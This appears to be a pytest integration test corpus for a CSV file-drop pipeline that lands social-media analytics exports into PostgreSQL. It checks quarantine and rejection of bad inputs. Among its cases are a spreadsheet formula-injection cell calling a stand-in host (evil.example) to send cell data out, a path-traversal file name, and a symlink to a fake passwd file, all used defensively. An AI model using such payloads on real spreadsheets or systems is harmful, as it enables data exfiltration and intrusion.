"""The fault and bad-input corpus of the file drop: each case a dropped file and its expected outcome.

Every case runs the file drop as `kinerja filedrop process` does (read the inbox, land, record,
settle) against a real PostgreSQL, and checks what tests/corpus/README.md promises for every case:

- the file's outcome (landed, partly_held, rejected, failed) and, for a file read whole,
  rows in = rows landed + rows held, in raw.filedrop_files and in the warehouse;
- each held row in raw.filedrop_quarantine with the file, its line and its column, and a reason
  that says what was found; the sender's note says it too;
- a refused file lands nothing and moves to `_rejected/` with a note; nothing outside the
  inbox is read, moved or deleted.

The cases that need a situation rather than a file (links, re-drops, faults, limits) are
functions below the table.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field
from datetime import date, datetime
from pathlib import Path

import pytest

from kinerja.landing.filedrop import audit_dropped_batches, land_dropped_files
from kinerja.sources.filedrop.inbox import read_inbox
from kinerja.warehouse.fingerprint import table_fingerprint
from support import REPO

pytestmark = pytest.mark.integration

EXPORTS = REPO / "tests" / "fixtures" / "exports"
RECEIVED = date(2026, 6, 13)
TOTALS_HEADER = "Date,Views\n"
TOTALS = TOTALS_HEADER + "01-06-2026,100\n02-06-2026,200\n03-06-2026,300\n"
TIKTOK_HEADER = '"Date","Video Views","Profile Views","Likes","Comments","Shares"\n'


def tiktok(*days: str) -> str:
    return TIKTOK_HEADER + "".join(f'"{d}","10","1","2","0","0"\n' for d in days)


@dataclass(frozen=True)
class Case:
    """A file dropped into `folder` and what must become of it."""

    name: str
    content: bytes | str | Path
    status: str  # landed, partly_held, rejected
    landed: int = 0
    held: list[tuple[int, str]] = field(default_factory=list)  # (line, column) of each held row
    says: str = ""  # words the file's message (and its sender's note) must hold
    folder: str | None = "kab-5101"
    file_name: str = "export.csv"
    received: date = RECEIVED


CASES = [
    Case("a valid export", TOTALS, "landed", 3),
    Case("a real YouTube totals export", EXPORTS / "youtube_studio_totals_sample.csv", "landed", 365),
    Case(
        "a real TikTok export, English",
        EXPORTS / "tiktok_overview_sample_en.csv",
        "landed",
        7,
        says="read as",
    ),
    Case("UTF-8 with a byte-order mark", b"\xef\xbb\xbf" + TOTALS.encode(), "landed", 3),
    Case("UTF-16 with a byte-order mark", TOTALS.encode("utf-16"), "landed", 3),
    Case("semicolons as separators", TOTALS.replace(",", ";"), "landed", 3),
    Case("a trailing separator on every line", TOTALS.replace("\n", ",\n"), "landed", 3),
    Case("thousands separators", TOTALS_HEADER + '01-06-2026,"1,500"\n02-06-2026,1.500\n', "landed", 2),
    Case(
        "a negative count",
        TOTALS.replace(",200", ",-200"),
        "partly_held",
        2,
        [(3, "Views")],
        "negative count '-200'",
    ),
    Case(
        "a count beyond any column (20 digits)",
        TOTALS.replace(",200", ",99999999999999999999"),
        "partly_held",
        2,
        [(3, "Views")],
        "larger than any count",
    ),
    Case(
        "a count that is no number",
        TOTALS.replace(",200", ",banyak"),
        "partly_held",
        2,
        [(3, "Views")],
        "not a whole number: 'banyak'",
    ),
    Case(
        "a formula cell",
        TOTALS.replace(",200", ',"=HYPERLINK(""http://evil.example/?""&A1,""click me now please"")"'),
        "partly_held",
        2,
        [(3, "Views")],
        "not a whole number",
    ),
    Case(
        "a decimal count", TOTALS.replace(",200", ",200.5"), "partly_held", 2, [(3, "Views")], "not a whole"
    ),
    Case(
        "a date that is no date", TOTALS.replace("02-06-2026", "32-13-2026"), "partly_held", 2, [(3, "Date")]
    ),
    Case("an empty date", TOTALS.replace("02-06-2026", ""), "partly_held", 2, [(3, "Date")], "cell is empty"),
    Case(
        "a day after the day the file was received",
        TOTALS + "20-06-2026,5\n",
        "partly_held",
        3,
        [(5, "Date")],
        "after 2026-06-13",
    ),
    Case(
        "a day repeated with the same values",
        TOTALS + "02-06-2026,200\n",
        "partly_held",
        3,
        [(5, "Date")],
        "counted once",
    ),
    Case(
        "a day repeated with other values",
        TOTALS + "04-06-2026,400\n05-06-2026,500\n02-06-2026,999\n",
        "partly_held",
        4,
        [(3, "Date"), (7, "Date")],
        "neither landed",
    ),
    Case("mostly repeated rows", TOTALS + "02-06-2026,200\n" * 5, "rejected", 0, says="more than half"),
    Case(
        "every row bad", TOTALS_HEADER + "01-06-2026,x\n02-06-2026,y\n", "rejected", says="none of its 2 rows"
    ),
    Case("a header and no rows", TOTALS_HEADER, "rejected", says="header but no data rows"),
    Case("an empty file", b"", "rejected", says="is empty"),
    Case("only blank lines", "\n\n  \n", "rejected", says="is empty"),
    Case("an Excel workbook", b"PK\x03\x04\x14\x00rest of a zip", "rejected", says="Excel workbook"),
    Case("an old Excel workbook", b"\xd0\xcf\x11\xe0\xa1\xb1", "rejected", says="old Excel workbook"),
    Case("a PDF", b"%PDF-1.7 ...", "rejected", says="PDF document"),
    Case("a picture", b"\x89PNG\r\n\x1a\n....", "rejected", says="picture"),
    Case("NUL bytes in text", TOTALS.replace("200", "2\x0000"), "rejected", says="NUL characters"),
    Case(
        "not UTF-8 (Latin-1)",
        "Date,Views,Catatan\n01-06-2026,1,caf\xe9\n".encode("latin-1"),
        "rejected",
        says="not UTF-8",
    ),
    Case(
        "headers of no known export",
        "Tanggal,Jumlah\n2026-06-01,3\n",
        "rejected",
        says="match no export we know",
    ),
    Case("a one-megabyte header line", "x" * 1_000_000 + ",Views\n1,2\n", "rejected", says="no CSV table"),
    Case(
        "an unclosed quote", 'Date,Views\n"01-06-2026,1\n', "rejected", says="none of its 1 rows could land"
    ),
    Case(
        "dates in Spanish",
        tiktok("8 de marzo", "9 de marzo"),
        "rejected",
        says="written in Spanish",
        file_name="tiktok.csv",
    ),
    Case(
        "a year-less export across the new year, received on 1 January",
        tiktok("Dec 30", "Dec 31", "Jan 1", "Jan 2", "Jan 3"),
        "partly_held",
        3,
        [(5, "Date"), (6, "Date")],
        "after 2027-01-01",
        received=date(2027, 1, 1),
    ),
    Case(
        "another institution's account",
        EXPORTS / "meta_posts_instagram.csv",
        "rejected",
        says="Refused",
        folder="kab-5101",
    ),
    Case(
        "an account the registry does not know",
        EXPORTS / "x_account_analytics_content_sample.csv",
        "rejected",
        says="no registered account",
        folder="kab-5101",
    ),
    Case(
        "Meta posts for a period, not Lifetime",
        (EXPORTS / "meta_posts_instagram.csv")
        .read_text(encoding="utf-8-sig")
        .replace(",Lifetime,", ",2026-03-30,", 1),
        "partly_held",
        2,
        [(2, "Date")],
        "not 'Lifetime'",
        folder="prov-51",
    ),
    Case(
        "dropped outside any institution folder",
        TOTALS,
        "rejected",
        says="outside any institution folder",
        folder=None,
    ),
    Case("a folder that is no institution", TOTALS, "rejected", says="is no institution", folder="kab-9999"),
    Case("a folder named with markup", TOTALS, "rejected", says="is no institution", folder="[red]Jembrana"),
    Case("a path-like file name", TOTALS, "landed", 3, file_name="a\\..\\..\\etc\\passwd.csv"),
    Case("a hidden file", TOTALS, "rejected", says="starting with a dot", file_name=".export.csv"),
]


@pytest.fixture(scope="module")
def corpus_warehouse(server):
    """One warehouse for the whole corpus (a database per case would cost more than the cases)."""
    import uuid

    from psycopg import sql

    from kinerja.registry.load import load_registry
    from kinerja.warehouse import connect, ensure_database
    from kinerja.warehouse.schema import apply_ddl
    from support import SMALL_REGISTRY

    params = ensure_database(server, f"kinerja_corpus_{uuid.uuid4().hex[:10]}")
    with connect(params) as connection:
        apply_ddl(connection)
        load_registry(connection, SMALL_REGISTRY)
        connection.commit()
    yield params
    with connect(server, autocommit=True) as connection:
        connection.execute(
            sql.SQL("drop database if exists {} with (force)").format(sql.Identifier(params.dbname))
        )


@pytest.fixture
def conn(corpus_warehouse):
    """The corpus warehouse with every table the file drop writes emptied: each case starts clean."""
    from kinerja.warehouse import connect

    with connect(corpus_warehouse, autocommit=True) as connection:
        connection.execute(
            "truncate raw.account_daily, raw.post_daily, raw.batch_ledger, raw.quarantine, "
            "raw.filedrop_files, raw.filedrop_quarantine"
        )
        yield connection


def drop(inbox: Path, folder: str | None, name: str, content: bytes | str | Path, received: date) -> Path:
    place = inbox / folder if folder else inbox
    place.mkdir(parents=True, exist_ok=True)
    data = content.read_bytes() if isinstance(content, Path) else content
    path = place / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    written = datetime(received.year, received.month, received.day, 12).timestamp()
    os.utime(path, (written, written))
    return path


def process(conn, tmp_path: Path, received: date = RECEIVED):
    inbox, archive = tmp_path / "inbox", tmp_path / "archive"
    return land_dropped_files(conn, read_inbox(conn, inbox, registry(), received), archive)


def registry():
    from kinerja.registry.load import read_accounts
    from support import SMALL_REGISTRY

    return read_accounts(SMALL_REGISTRY)


def data_rows(content: bytes | str | Path) -> int:
    """The data rows of a file, counted apart from the parsers: its non-blank lines but the header."""
    data = content.read_bytes() if isinstance(content, Path) else content
    if isinstance(data, bytes):
        data = data.decode("utf-16") if data.startswith(b"\xff\xfe") else data.decode("utf-8-sig")
    return sum(1 for line in data.splitlines() if line.strip()) - 1


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_case(conn, tmp_path, case: Case):
    drop(tmp_path / "inbox", case.folder, case.file_name, case.content, case.received)
    report = process(conn, tmp_path, case.received)

    assert dict(report.counts) == {case.status: 1}, report.messages
    record = conn.execute(
        "select status, rows_landed, rows_quarantined, message, institution_id, sha256 from raw.filedrop_files"
    ).fetchone()
    status, rows_landed, rows_held, message, institution, sha = record
    assert (status, rows_landed) == (case.status, case.landed), message
    assert case.says in message and case.says in report.messages[0]
    raw_rows = conn.execute(
        "select (select count(*) from raw.account_daily) + (select count(*) from raw.post_daily)"
    ).fetchone()[0]
    assert raw_rows == case.landed  # what the record says landed is what the warehouse holds
    held = conn.execute(
        "select line_number, column_name, file_name, reason from raw.filedrop_quarantine order by 1, 2"
    ).fetchall()
    assert rows_held == len(held)
    if case.held:
        assert [(line, column) for line, column, *_ in held] == case.held
        assert {file for _, _, file, _ in held} == {case.file_name}
        for line, column, _, reason in held[:3]:  # the message names the first held rows one by one
            assert reason and f"line {line}, {column}: {reason}" in message
    if status != "rejected":
        assert rows_landed + rows_held == data_rows(case.content), "rows in = rows landed + rows held"
    notes = list((tmp_path / "inbox" / "_outbox").rglob("*.txt"))
    assert len(notes) == 1 and case.says in notes[0].read_text(encoding="utf-8")
    if status == "rejected":
        aside = (
            tmp_path / "inbox" / "_rejected" / (institution if institution != "_unsorted" else "_unsorted")
        )
        assert (aside / case.file_name).exists() and (aside / f"{case.file_name}.error.txt").exists()
        assert len(message) < 2_000  # a note quotes cells cut short, never a whole line of the file
    else:
        assert not (tmp_path / "inbox" / (case.folder or "") / case.file_name).exists()
        assert [p.name for p in (tmp_path / "archive" / institution).iterdir()] == [f"{sha}.csv"]


# --- situations --------------------------------------------------------------------------------


def test_a_link_to_a_file_outside_the_inbox_is_refused_and_nothing_of_it_read(conn, tmp_path):
    secret = tmp_path / "etc" / "passwd.csv"
    secret.parent.mkdir()
    secret.write_text("Date,Views\n01-06-2026,1\npassword: hunter2\n")
    (tmp_path / "inbox" / "kab-5101").mkdir(parents=True)
    (tmp_path / "inbox" / "kab-5101" / "export.csv").symlink_to(secret)
    report = process(conn, tmp_path)
    note = next((tmp_path / "inbox" / "_rejected").rglob("*.error.txt")).read_text(encoding="utf-8")
    assert dict(report.counts) == {"rejected": 1} and "is a link" in note
    assert "hunter2" not in note and str(secret) not in note and secret.exists()
    assert not (tmp_path / "archive").exists() or not any((tmp_path / "archive").rglob("*.*"))


def test_a_linked_institution_folder_lands_nothing_and_deletes_nothing(conn, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "totals.csv").write_text(TOTALS)
    (tmp_path / "inbox").mkdir()
    (tmp_path / "inbox" / "kab-5101").symlink_to(outside, target_is_directory=True)
    report = process(conn, tmp_path)
    assert dict(report.counts) == {"rejected": 1} and (outside / "totals.csv").read_text() == TOTALS
    assert conn.execute("select count(*) from raw.account_daily").fetchone() == (0,)


def test_a_file_being_written_waits(conn, tmp_path):
    drop(tmp_path / "inbox", "kab-5101", "export.csv.crdownload", TOTALS, RECEIVED)
    assert dict(process(conn, tmp_path).counts) == {}
    assert (tmp_path / "inbox" / "kab-5101" / "export.csv.crdownload").exists()


def test_a_sub_folder_is_refused(conn, tmp_path):
    (tmp_path / "inbox" / "kab-5101" / "2026").mkdir(parents=True)
    report = process(conn, tmp_path)
    assert dict(report.counts) == {"rejected": 1} and "sub-folders" in report.messages[0]


def test_a_file_over_the_limits_is_refused_before_landing(conn, tmp_path, monkeypatch):
    monkeypatch.setenv("KINERJA_FILEDROP_MAX_BYTES", "100")
    drop(tmp_path / "inbox", "kab-5101", "big.csv", TOTALS * 5, RECEIVED)
    monkeypatch.setenv("KINERJA_FILEDROP_MAX_ROWS", "2")
    drop(tmp_path / "inbox", "kab-5102", "long.csv", TOTALS, RECEIVED)
    report = process(conn, tmp_path)
    assert dict(report.counts) == {"rejected": 2}
    assert any("larger than the 100 bytes" in m for m in report.messages)
    assert any("more than 2 data rows" in m for m in report.messages)
    assert conn.execute("select count(*) from raw.batch_ledger").fetchone() == (0,)


def test_the_same_bytes_again_change_nothing_and_a_corrected_file_lands(conn, tmp_path):
    drop(tmp_path / "inbox", "kab-5101", "export.csv", TOTALS, RECEIVED)
    process(conn, tmp_path)
    tables = ("raw.account_daily", "raw.batch_ledger", "raw.filedrop_quarantine")
    before = [table_fingerprint(conn, t) for t in tables]
    drop(tmp_path / "inbox", "kab-5101", "export.csv", TOTALS, RECEIVED)
    assert dict(process(conn, tmp_path).counts) == {"duplicate": 1}
    assert [table_fingerprint(conn, t) for t in tables] == before
    drop(tmp_path / "inbox", "kab-5101", "export.csv", TOTALS.replace(",200", ",250"), RECEIVED)
    assert dict(process(conn, tmp_path).counts) == {"landed": 1}
    # the first file's rows stay beside the correction's until its audit accepts it
    assert len(conn.execute("select views from raw.account_daily").fetchall()) == 6
    audit_dropped_batches(conn)
    views = conn.execute("select views from raw.account_daily order by metric_date").fetchall()
    assert views == [(100,), (250,), (300,)]


def test_a_fault_of_ours_in_one_file_fails_it_alone(conn, tmp_path, monkeypatch):
    from kinerja.sources.filedrop import inbox

    real = inbox.parse_export
    monkeypatch.setattr(
        inbox,
        "parse_export",
        lambda data, name, *a: (
            (_ for _ in ()).throw(KeyError(name)) if "a_" in name else real(data, name, *a)
        ),
    )
    drop(tmp_path / "inbox", "kab-5101", "a_export.csv", TOTALS, RECEIVED)
    drop(tmp_path / "inbox", "kab-5102", "b_export.csv", TOTALS, RECEIVED)
    report = process(conn, tmp_path)
    assert dict(report.counts) == {"failed": 1, "landed": 1}
    assert conn.execute("select status from raw.filedrop_files order by original_name").fetchall() == [
        ("failed",),
        ("landed",),
    ]
    assert (tmp_path / "inbox" / "_rejected" / "kab-5101" / "a_export.csv").exists()


def test_a_value_the_warehouse_refuses_fails_its_file_alone(conn, tmp_path, monkeypatch):
    from kinerja.sources.filedrop import cells

    monkeypatch.setattr(cells, "LARGEST_COUNT", 10**30)
    drop(
        tmp_path / "inbox",
        "kab-5101",
        "a_export.csv",
        TOTALS.replace(",200", ",99999999999999999999"),
        RECEIVED,
    )
    drop(tmp_path / "inbox", "kab-5102", "b_export.csv", TOTALS, RECEIVED)
    report = process(conn, tmp_path)
    assert dict(report.counts) == {"failed": 1, "landed": 1}
    assert (
        "NumericValueOutOfRange"
        in conn.execute("select message from raw.filedrop_files where status = 'failed'").fetchone()[0]
    )


def test_an_implausible_follower_jump_is_held(conn, tmp_path):
    from kinerja import landing
    from kinerja.sources.base import account_day_record

    before = account_day_record("facebook", "demo-prov-51-facebook", date(2026, 2, 28), {"followers": 500})
    landing.land_batch(conn, "simulator", date(2026, 2, 28), [before])
    drop(tmp_path / "inbox", "prov-51", "page.csv", EXPORTS / "meta_page_daily_facebook.csv", RECEIVED)
    report = process(conn, tmp_path)
    assert dict(report.counts) == {"rejected": 1}
    checks = conn.execute("select distinct check_name, column_name from raw.filedrop_quarantine").fetchall()
    assert checks == [("plausibility", "followers")]


def test_a_file_lands_on_the_accounts_of_its_own_days_not_of_the_day_it_was_received(conn, tmp_path):
    """The folder's YouTube account was replaced after the file's days and before it was dropped:
    its rows belong to the account registered on its latest day (a pass over the file first)."""
    replaced = []
    for account in registry():
        if account["account_id"] == "demo-kab-5101-youtube":
            replaced.append({**account, "valid_to": date(2026, 6, 9)})
            account = {**account, "account_id": "demo-kab-5101-youtube-new", "valid_from": date(2026, 6, 10)}
        replaced.append(account)
    drop(tmp_path / "inbox", "kab-5101", "totals.csv", TOTALS, RECEIVED)
    report = land_dropped_files(
        conn, read_inbox(conn, tmp_path / "inbox", replaced, RECEIVED), tmp_path / "a"
    )
    assert dict(report.counts) == {"landed": 1}, report.messages
    assert conn.execute(
        "select distinct account_id, count(*) from raw.account_daily group by 1"
    ).fetchall() == [("demo-kab-5101-youtube", 3)]
